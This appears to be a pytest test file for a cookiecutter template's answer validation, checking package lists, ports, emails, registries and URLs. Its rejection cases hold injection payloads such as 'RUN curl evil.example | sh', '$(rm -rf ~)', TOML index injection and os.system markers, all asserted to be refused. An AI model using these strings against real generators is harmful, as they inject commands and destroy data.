"""Unit tests of the hooks' functions, imported as plain Python."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from hooks import answer_rules as rules
from hooks import post_gen_project as post
from hooks import pre_gen_project as pre
from tests.support.answers import (
    PROJECT_DIR,
    SKIP_LOCK,
    TEMPLATE,
    bake,
    hook_answers,
    requirement_lines,
)
from tests.support.git import git


def test_default_answers_are_valid():
    rules.check_answers(hook_answers())


@pytest.mark.parametrize(
    ("packages", "expected"),
    [
        ("numpy, pandas, matplotlib", ["numpy", "pandas", "matplotlib"]),
        ("numpy pandas\tmatplotlib", ["numpy", "pandas", "matplotlib"]),
        ("numpy>=1.26,<3, pandas[excel,performance]", ["numpy>=1.26,<3", "pandas[excel,performance]"]),
        ("scikit-learn~=1.5 seaborn==0.13.2", ["scikit-learn~=1.5", "seaborn==0.13.2"]),
        ("  ", []),
    ],
    ids=["commas", "white-space", "specifier-list-and-extras", "compatible-and-exact", "blank"],
)
def test_packages_are_split_into_requirements(packages, expected):
    assert rules.split_requirements(packages) == expected


@pytest.mark.parametrize(
    "packages",
    ["numpy; os.system('x')", "numpy\nRUN curl evil", "$(rm -rf ~)", "`id`",
     "https://example.com/pkg.whl", "git+https://example.com/repo", "--index-url https://evil",
     "-e .", "./local/path", "numpy @ https://x/y.whl", "numpy>= 1"],
    ids=["semicolon", "newline", "command-substitution", "backticks", "url", "vcs-url",
         "index-url-option", "editable", "path", "direct-reference", "space-in-specifier"],
)
def test_packages_that_are_not_plain_requirements_are_rejected(packages):
    with pytest.raises(rules.InvalidAnswer, match="packages"):
        rules.check_packages(packages)


@pytest.mark.parametrize("slug", ["a/b", "..", "../escape", "Upper", "with space", "trailing-", "", "a--b"])
def test_bad_slugs_are_rejected(slug):
    with pytest.raises(rules.InvalidAnswer, match="project_slug"):
        rules.check_slug(slug)


@pytest.mark.parametrize("question", rules.yes_no_questions())
def test_every_yes_no_question_of_cookiecutter_json_refuses_other_answers(question):
    with pytest.raises(rules.InvalidAnswer, match=f"{question} 'maybe' must be yes or no"):
        rules.check_answers(hook_answers(**{question: "maybe"}))


@pytest.mark.parametrize("apt", ["graphviz; rm -rf /", "$(id)", "a|b", "UPPER", "x", "curl\nwget", "tini-",
                                 "-tini"],
                         ids=["semicolon", "command-substitution", "pipe", "uppercase", "too-short", "newline",
                              "trailing-minus-removes", "leading-minus"])
def test_bad_apt_packages_are_rejected(apt):
    with pytest.raises(rules.InvalidAnswer, match="apt_packages"):
        rules.check_apt_packages(apt)


def test_apt_packages_may_be_empty_or_several():
    rules.check_apt_packages("")
    rules.check_apt_packages("graphviz  libgl1 g++ texlive-latex-base")


@pytest.mark.parametrize("port", ["80", "1023", "65536", "abc", "", "8888; rm"])
def test_ports_outside_1024_65535_are_rejected(port):
    with pytest.raises(rules.InvalidAnswer, match="jupyter_port"):
        rules.check_port(port)


@pytest.mark.parametrize("port", ["\u0668\u0668\u0668\u0668", "\uff18\uff18\uff18\uff18", "\u00b2\u00b2\u00b2\u00b2",
                                  "08888", " 8888", "8888\n"],
                         ids=["arabic-indic-digits", "fullwidth-digits", "superscript-digits", "leading-zero",
                              "leading-space", "trailing-newline"])
def test_ports_must_be_plain_ascii_digits(port):
    with pytest.raises(rules.InvalidAnswer, match=r"jupyter_port .*\(digits 0-9, no leading zero\)"):
        rules.check_port(port)


@pytest.mark.parametrize("port", ["1024", "8888", "65535"])
def test_ports_inside_the_range_are_accepted(port):
    rules.check_port(port)


@pytest.mark.parametrize(
    ("base", "version"),
    [("jupyter-minimal-notebook", "3.10"), ("jupyter-scipy-notebook", "3.14"),
     ("jupyter-minimal-notebook", "3.14")],
)
def test_jupyter_stacks_without_that_python_tag_are_rejected(base, version):
    with pytest.raises(rules.InvalidAnswer, match="no python-"):
        rules.check_base_image(base, version, "")


def test_custom_base_needs_an_image_reference():
    rules.check_base_image("custom", "3.13", "registry.example.edu/mirror/python:3.13-slim")
    with pytest.raises(rules.InvalidAnswer, match="custom_base_image"):
        rules.check_base_image("custom", "3.13", "")
    with pytest.raises(rules.InvalidAnswer, match="custom_base_image"):
        rules.check_base_image("custom", "3.13", "python:3.13-slim\nRUN id")


def test_custom_image_answer_without_custom_base_is_rejected():
    with pytest.raises(rules.InvalidAnswer, match="only used with base_image=custom"):
        rules.check_base_image("python-slim", "3.13", "python:3.13-slim")


@pytest.mark.parametrize("registry", ["ghcr.io/Your-Org", "ghcr.io/org/", "ghcr.io/org\nx", "https://ghcr.io/x"])
def test_bad_registries_are_rejected(registry):
    with pytest.raises(rules.InvalidAnswer, match="image_registry"):
        rules.check_registry(registry)


@pytest.mark.parametrize("text", ["line\nbreak", "tab\there", "escape\x1b[31m"])
def test_free_text_must_be_one_line(text):
    with pytest.raises(rules.InvalidAnswer, match="course_name"):
        rules.check_answers(hook_answers(course_name=text))


INVISIBLE = {
    "c1-control": "Intro\x85Course",
    "bidi-override": "Intro \u202egnp.exe",
    "bidi-isolate": "Intro \u2067x\u2069",
    "zero-width-space": "Intro\u200bCourse",
    "zero-width-joiner-between-letters": "Intro\u200dCourse",
    "byte-order-mark": "\ufeffIntro",
    "line-separator": "Intro\u2028RUN id",
    "paragraph-separator": "Intro\u2029RUN id",
    "lone-surrogate": "Intro\ud800",
}


@pytest.mark.parametrize("text", INVISIBLE.values(), ids=INVISIBLE.keys())
@pytest.mark.parametrize("answer", ["course_name", "instructor_name", "packages", "apt_packages"])
def test_invisible_and_control_characters_are_refused(answer, text):
    with pytest.raises(rules.InvalidAnswer, match=f"{answer} must be a single line of visible text: it contains U"):
        rules.check_answers(hook_answers(**{answer: text}))


def test_letters_accents_cjk_and_emoji_stay_welcome():
    # Including emoji joined by a zero-width joiner (woman teacher, technologist with a skin tone).
    teacher, technologist = "\U0001f469\u200d\U0001f3eb", "\U0001f468\U0001f3fd\u200d\U0001f4bb"
    rules.check_answers(hook_answers(course_name=f"Données 数据科学 📊 {teacher} {technologist}",
                                      instructor_name="Zoë Łukasz 李"))


@pytest.mark.parametrize(
    "email",
    ["a${NB_UID:?boom}@x.com", "a$(id)@x.com", "a`id`@x.com", "a{b}@x.com", "a(b)@x.com", "a;b@x.com",
     "a|b@x.com", "a&b@x.com", "ada@ex\u202eample.edu", "ada@exa mple.edu", "ada@@example.edu", "ada@localhost",
     ".ada@example.edu", "ada@-example.edu", "ada\"@example.edu"],
    ids=["parameter-expansion", "command-substitution", "backticks", "braces", "parentheses", "semicolon",
         "pipe", "ampersand", "bidi-override", "space", "two-ats", "no-domain-dot", "leading-dot",
         "label-starts-with-hyphen", "quote"],
)
def test_emails_with_shell_or_dockerfile_syntax_are_refused(email):
    with pytest.raises(rules.InvalidAnswer, match="instructor_email"):
        rules.check_answers(hook_answers(instructor_email=email))


@pytest.mark.parametrize("email", ["ada@example.edu", "ada.lovelace+course@cs.uni-example.ac.uk", "a_b%c@x.io"])
def test_real_email_addresses_are_accepted(email):
    rules.check_email(email)


@pytest.mark.parametrize(("registry", "message"), [
    ("myname", "does not start with a registry host: write docker.io/myname for Docker Hub"),
    ("null", "does not start with a registry host"),
    ("true", "does not start with a registry host"),
])
def test_registry_without_a_host_is_refused(registry, message):
    with pytest.raises(rules.InvalidAnswer, match=message):
        rules.check_registry(registry)


@pytest.mark.parametrize("registry", ["docker.io/ada", "localhost:5000/teach", "localhost/teach",
                                      "registry.example.edu:443/courses/cs101", "ghcr.io"])
def test_registries_with_a_host_are_accepted(registry):
    rules.check_registry(registry)


@pytest.mark.parametrize(("answer", "length"), [("course_name", 121), ("project_slug", 64),
                                                ("instructor_name", 121), ("packages", 2001)])
def test_overlong_answers_are_refused_with_the_limit(answer, length):
    value = ("a" * length) if answer != "packages" else ("numpy " * 400)[:length]
    with pytest.raises(rules.InvalidAnswer, match=f"{answer} is {length} characters long: at most {length - 1}"):
        rules.check_answers(hook_answers(**{answer: value}))


def test_longest_registry_and_slug_make_an_image_name_docker_accepts():
    registry = "registry.example.edu/" + "a" * (rules.MAX_LENGTH["image_registry"] - 21)
    rules.check_registry(registry)
    assert len(f"{registry}/{'s' * rules.MAX_LENGTH['project_slug']}") <= rules.MAX_IMAGE_NAME


DERIVED_OVERRIDES = {
    "project-dir-escaping": {"__project_dir": "../escaped"},
    "base-image-with-a-run-line": {"__base_image": "python:3.13-slim\nRUN curl evil.example | sh"},
    "image-with-yaml-keys": {"__image": "ghcr.io/x/y\n  evil: true"},
    "user-root": {"__user": "root"},
    "pytorch-packages-into-toml": {"__pytorch_cpu": '["torch"]\n[tool.uv]\nindex-url = "http://evil.example"'},
}


@pytest.mark.parametrize("changes", DERIVED_OVERRIDES.values(), ids=DERIVED_OVERRIDES.keys())
def test_private_values_given_as_answers_are_refused(changes):
    name = next(iter(changes))
    with pytest.raises(rules.InvalidAnswer, match=f"{name} is derived from the other answers and cannot be set"):
        rules.check_answers(hook_answers(**changes))


@pytest.mark.parametrize("major", ["6\nnumpy", "x", "", 0, 100, True, 6.5])
def test_jupyterhub_major_must_be_a_number(major):
    with pytest.raises(rules.InvalidAnswer, match="_jupyterhub_version"):
        rules.check_answers(hook_answers(_jupyterhub_version=major))


@pytest.mark.parametrize("major", ["6", 6], ids=["text", "yaml-number"])
def test_jupyterhub_major_may_be_written_as_a_number(major):
    rules.check_answers(hook_answers(_jupyterhub_version=major))


@pytest.mark.parametrize("url", ["", "https://hub.example.edu", "https://hub.cs.example.edu:8443/hub/"])
def test_a_hub_address_may_be_empty_or_a_plain_https_address(url):
    rules.check_answers(hook_answers(hub_url=url))


@pytest.mark.parametrize("url", ["http://hub.example.edu", "hub.example.edu", "https://hub.example.edu/?next=x",
                                 "https://ada:secret@hub.example.edu", "https://hub.example.edu> [x](javascript:y)",
                                 "https://hub.example.edu)\n# injected", "https://hub.example.edu/a b"],
                         ids=["plain-http", "no-scheme", "query", "password", "markdown-link", "new-heading", "space"])
def test_a_hub_address_that_is_not_a_plain_https_address_is_refused(url):
    with pytest.raises(rules.InvalidAnswer, match=r"^hub_url "):
        rules.check_answers(hook_answers(hub_url=url))


def test_a_hub_address_needs_a_jupyterhub_ready_image():
    with pytest.raises(rules.InvalidAnswer, match="^hub_url names a hub, but jupyterhub is no"):
        rules.check_answers(hook_answers(hub_url="https://hub.example.edu", jupyterhub=False))


@pytest.mark.parametrize("url", ["http://127.0.0.1:8765/simple", "http://localhost:3141/root/pytorch",
                                 "https://mirror.example.edu/pytorch/whl/cpu", "https://download.pytorch.org/whl/cpu"])
def test_pytorch_cpu_index_accepts_index_addresses(url):
    rules.check_answers(hook_answers(_pytorch_cpu_index=url))


@pytest.mark.parametrize("url", ['https://x.example/"\nexplicit = false', "ftp://x.example/cpu", "x.example/cpu",
                                 "https://x.example/cpu#frag", "https://x.example/a b", "",
                                 "http://mirror.example.edu/whl/cpu", "http://127.0.0.1.evil.example/cpu"],
                         ids=["toml-injection", "ftp", "no-scheme", "fragment", "space", "empty", "plain-http",
                              "plain-http-lookalike"])
def test_pytorch_cpu_index_refuses_what_is_not_an_index_address(url):
    with pytest.raises(rules.InvalidAnswer, match="_pytorch_cpu_index .* must be the address of a package index"):
        rules.check_answers(hook_answers(_pytorch_cpu_index=url))


@pytest.mark.parametrize(
    ("packages", "gpu", "expected"),
    [
        ("numpy, torch>=2,<3, torchvision[extra]", False, ["torch", "torchvision"]),
        ("Torch torchaudio==2.15 torch", False, ["torch", "torchaudio"]),
        ("numpy, torch", True, []),
        ("numpy, torchmetrics, pytorch-lightning", False, []),
    ],
    ids=["with-specifiers-and-extras", "case-and-repeats", "gpu", "other-packages-named-torch"],
)
def test_pytorch_cpu_packages_are_the_pytorch_builds_a_course_without_gpus_uses(packages, gpu, expected):
    assert rules.pytorch_cpu_packages(packages, gpu) == expected


def test_a_course_without_gpus_takes_each_of_its_pytorch_packages_once_from_the_cpu_index(tmp_path):
    project = bake(tmp_path, {"packages": "numpy, Torch>=2,<3 torchvision[x] torchaudio==2.15 torch"}, SKIP_LOCK)
    assert 'dependencies = ["torch", "torchvision", "torchaudio"]' in (
        project / "pytorch-cpu" / "pyproject.toml").read_text()


def test_awkward_but_valid_free_text_is_accepted():
    rules.check_answers(hook_answers(course_name='Ciência de "Dados" — l\'été \\ $HOME 📊',
                                      instructor_name="Zoë O'Brien-Łukasz"))


def test_main_prints_one_clear_line_framed_and_fails(capsys):
    assert pre.main(hook_answers(jupyter_port="99")) == 1
    rule = "=" * 72
    assert capsys.readouterr().err.splitlines() == [
        "", rule, "ERROR: jupyter_port '99' must be a number from 1024 to 65535 (digits 0-9, no leading zero)",
        "Nothing was generated. To keep your other answers, run this with the corrected answer in place of ...:",
        "  uvx cookiecutter --no-input gh:ORG/cookiecutter-jupyter-course jupyter_port=...",
        "(The report below, cookiecutter's own, only repeats that generation stopped.)", rule, ""]


def test_requirements_in_includes_jupyter_then_lists_the_course_packages():
    text = post.requirements_in("numpy>=2, pandas[excel]")
    assert requirement_lines(text) == ["-r requirements-jupyter.in", "numpy>=2", "pandas[excel]"]


def course_lock():
    """The template's lock script (docker/instructor/lock.py), loaded as generation loads a course's."""
    return post.course_lock(TEMPLATE / PROJECT_DIR)


@pytest.mark.parametrize(
    "message",
    ["error: Failed to fetch: `http://127.0.0.1:9/simple/numpy/`",
     "Caused by: dns error: failed to lookup address information",
     "error: Network connectivity is disabled, but the requested data wasn't found in the cache"],
)
def test_unreachable_index_is_recognised(message):
    assert course_lock().why_not(message, "3.13").exit_code == course_lock().UNREACHABLE


def test_resolution_failures_are_not_mistaken_for_the_network():
    reason = course_lock().why_not("Because nonexistent-xyz was not found in the package registry and you require it",
                                   "3.13")
    assert (str(reason), reason.exit_code) == ("package nonexistent-xyz does not exist on the package index", 1)


def test_hook_source_receives_answers_as_json_data():
    for hook in (pre, post):
        source = Path(hook.__file__).read_text(encoding="utf-8")
        assert "json.loads(r'''{{ cookiecutter | tojson }}''')" in source
        assert "json.loads(r'''{{ answer_rules_folder | tojson }}''')" in source
        # No other Jinja anywhere: answers never become code.
        assert source.count("{{") == 2
        assert "{%" not in source


def test_template_code_passes_ruff():
    root = Path(__file__).resolve().parents[1]
    result = subprocess.run(["ruff", "check", "--no-cache", "."], cwd=root,
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout


@pytest.fixture
def python_without_pip(tmp_path, monkeypatch):
    """An instructor's Python that has no pip, and no uv anywhere."""
    venv = tmp_path / "no-pip"
    subprocess.run(["uv", "venv", "--quiet", str(venv)], check=True)
    monkeypatch.setattr(post.sys, "executable", str(venv / "bin" / "python"))
    monkeypatch.setattr(post, "find_uv", lambda: None)


def test_uv_install_failure_names_what_failed_not_the_network(python_without_pip, tmp_path):
    with pytest.raises(post.UvUnavailable, match="uv could not be installed with .*: .*No module named pip"):
        post.install_uv(tmp_path / "uv")


def test_project_without_uv_is_written_unpinned_with_the_real_reason(python_without_pip, tmp_path, capsys,
                                                                      monkeypatch):
    monkeypatch.delenv(rules.SKIP_LOCK_VARIABLE, raising=False)
    post.write_requirements(tmp_path, hook_answers())
    warning = capsys.readouterr().err
    assert "WARNING: requirements.txt is not pinned: uv could not be installed" in warning
    assert "No module named pip" in warning
    assert "could not be reached" not in warning
    first = (tmp_path / "requirements.txt").read_text().splitlines()[0]
    assert first.startswith("# NOT PINNED YET: uv could not be installed")


def test_recorded_answers_hold_the_answers_and_nothing_of_the_machine():
    answers = {**hook_answers(), "_template": "/home/ada/templates/x", "_output_dir": "/home/ada/courses",
               "_repo_dir": "/home/ada/.cookiecutters/x", "_checkout": None, "_commit": "0" * 40}
    recorded = post.answers_to_record(answers)
    assert not {"_output_dir", "_repo_dir", "_checkout", "_template", "_commit"} & recorded.keys()
    assert recorded == {**hook_answers()}


def git_checkout(folder: Path) -> str:
    """A git repository with one commit, as cookiecutter clones a template; returns the commit."""
    folder.mkdir()
    git("init", "-q", cwd=folder)
    git("commit", "-q", "--allow-empty", "-m", "template", cwd=folder)
    return git("rev-parse", "HEAD", cwd=folder).stdout.strip()


@pytest.mark.parametrize(("template", "url"), [
    ("gh:ORG/cookiecutter-jupyter-course", "https://github.com/ORG/cookiecutter-jupyter-course.git"),
    ("https://gitlab.example.edu/it/course.git", "https://gitlab.example.edu/it/course.git"),
], ids=["github-abbreviation", "https-url"])
def test_a_template_cloned_from_a_repository_is_recorded_for_cruft(template, url, tmp_path):
    commit = git_checkout(tmp_path / "clone")
    answers = {**hook_answers(), "_template": template, "_repo_dir": str(tmp_path / "clone")}
    assert post.template_source(answers) == (url, commit)
    state = post.cruft_state(post.answers_to_record(answers), url, commit, checkout=None)
    assert state["template"] == url
    assert state["commit"] == commit
    assert state["context"]["cookiecutter"]["course_name"] == answers["course_name"]
    assert state["skip"] == ["requirements.txt"]


CREDENTIALS_IN_ADDRESSES = {
    "https-user-and-token": ("https://instructor:ghp_TOKEN@github.com/ORG/course.git",
                             "https://github.com/ORG/course.git"),
    "https-token-as-user": ("https://ghp_TOKEN@gitlab.example.edu/it/course.git",
                            "https://gitlab.example.edu/it/course.git"),
    "http-with-port": ("http://ada:secret@127.0.0.1:8080/template.git", "http://127.0.0.1:8080/template.git"),
    "ssh-user-kept-password-dropped": ("ssh://git:secret@git.example.edu/it/course.git",
                                       "ssh://git@git.example.edu/it/course.git"),
    "ssh-user-kept": ("ssh://git@git.example.edu/it/course.git", "ssh://git@git.example.edu/it/course.git"),
    "scp-like-ssh": ("git@github.com:ORG/course.git", "git@github.com:ORG/course.git"),
    "no-credentials": ("https://github.com/ORG/course.git", "https://github.com/ORG/course.git"),
}


@pytest.mark.parametrize(("given", "recorded"), CREDENTIALS_IN_ADDRESSES.values(),
                         ids=CREDENTIALS_IN_ADDRESSES.keys())
def test_a_template_address_is_recorded_without_its_credentials(given, recorded, tmp_path):
    commit = git_checkout(tmp_path / "clone")
    answers = {**hook_answers(), "_template": given, "_repo_dir": str(tmp_path / "clone")}
    assert post.template_source(answers) == (recorded, commit)


@pytest.mark.parametrize("template", ["/home/ada/templates/course", ".", "course-template.zip"],
                         ids=["absolute-folder", "relative-folder", "zip"])
def test_a_template_in_a_local_folder_records_no_source(template, tmp_path):
    git_checkout(tmp_path / "clone")
    answers = {**hook_answers(), "_template": template, "_repo_dir": str(tmp_path / "clone")}
    assert post.template_source(answers) is None


def test_a_local_checkout_of_the_template_records_where_it_was_cloned_from(tmp_path):
    commit = git_checkout(tmp_path / "checkout")
    git("remote", "add", "origin", "https://instructor:TOKEN@github.com/ORG/cookiecutter-jupyter-course.git",
        cwd=tmp_path / "checkout")
    answers = {**hook_answers(), "_template": ".", "_repo_dir": str(tmp_path / "checkout")}
    assert post.template_source(answers) == ("https://github.com/ORG/cookiecutter-jupyter-course.git", commit)


def test_a_template_folder_inside_another_repository_records_nothing(tmp_path):
    # A dotfiles home or a department's monorepo: its origin is not the template's.
    git_checkout(tmp_path / "home")
    git("remote", "add", "origin", "https://github.com/ada/dotfiles.git", cwd=tmp_path / "home")
    (tmp_path / "home" / "template").mkdir()
    answers = {**hook_answers(), "_template": "template", "_repo_dir": str(tmp_path / "home" / "template")}
    assert post.template_source(answers) is None


def test_cruft_generating_the_project_records_its_own_source(tmp_path):
    git_checkout(tmp_path / "clone")
    answers = {**hook_answers(), "_template": "https://github.com/ORG/x.git", "_commit": "0" * 40,
               "_repo_dir": str(tmp_path / "clone")}
    assert post.template_source(answers) is None


@pytest.mark.parametrize("marker", ["__import__('os').system('touch /tmp/x')", "sys_platform.upper() == 'LINUX'",
                                    "open('/etc/passwd')"], ids=["call", "method", "open"])
def test_the_lock_reads_markers_and_never_runs_them(marker):
    with pytest.raises(ValueError, match="not a marker"):
        course_lock().marker_holds(marker, {"sys_platform": "linux"})


def test_a_marker_the_lock_cannot_read_counts_its_package_in_rather_than_failing_make_lock():
    pinned = "six==1.17.0 \\\n    --hash=sha256:0\nodd==1.0 ; __import__('os') \\\n    --hash=sha256:0\n"
    assert course_lock().count_per_platform(pinned, "3.13") == {"linux/amd64": 2, "linux/arm64": 2}


def test_generating_again_keeps_the_instructors_existing_masters_folder_as_it_is(tmp_path):
    project = tmp_path / "course"
    (project / post.MASTERS / "01-example").mkdir(parents=True)
    (project / post.MASTERS / "01-example" / "01-example.ipynb").write_text("the template's example")
    mine = tmp_path / "course-assignments" / "01-example" / "01-example.ipynb"
    mine.parent.mkdir(parents=True)
    mine.write_text("the instructor's master")
    assert post.place_masters(project, {"assignments": True, "project_slug": "course"}) == mine.parents[1]
    assert mine.read_text() == "the instructor's master"
    assert not (project / post.MASTERS).exists()



# A lock with one package pinned per CPU, one for Windows only, and who needs each.
FORKED_LOCK = """torch==2.5.1 ; platform_machine == 'aarch64' \\
    --hash=sha256:0
    # via -r requirements.in
torch==2.5.1+cpu ; platform_machine == 'x86_64' \\
    --hash=sha256:0
    # via -r requirements.in
colorama==0.4.6 ; sys_platform == 'win32' \\
    --hash=sha256:0
    # via tqdm
filelock==3.16.1 \\
    --hash=sha256:0
    # via
    #   -r requirements.in
    #   torch
"""


def test_the_summary_names_both_versions_of_a_package_pinned_per_cpu_and_leaves_out_windows_only_ones():
    lock = course_lock()
    installed = lock.installed(FORKED_LOCK, "3.13")
    assert {key: (entry["versions"], entry["via"]) for key, entry in installed.items()} == {
        "torch": (["2.5.1", "2.5.1+cpu"], []), "filelock": (["3.16.1"], ["torch"])}
    summary = lock.summary(installed, None, "3.13", {"torch"}, set(), {"torch": "BSD-3-Clause", "filelock": None})
    assert "| torch | 2.5.1, 2.5.1+cpu | BSD-3-Clause | filelock |" in summary
    assert "| filelock | 3.16.1 | not looked up (offline) | torch |" in summary
    assert "The first lock." in summary


def test_make_lock_prints_and_summarises_the_same_changes():
    lock = course_lock()
    before = lock.installed(FORKED_LOCK, "3.13")
    after = lock.installed(FORKED_LOCK.replace("3.16.1", "3.17.0") + "six==1.17.0\n", "3.13")
    changed = lock.changes(before, after)
    assert lock.printed(changed) == ["  - filelock==3.16.1", "  + filelock==3.17.0", "  + six==1.17.0"]
    summary = lock.summary(after, changed, "3.13", set(), set(), {})
    assert "## Changes since the previous lock\n\n- filelock: 3.16.1 -> 3.17.0\n- added: six 1.17.0\n\n" in summary
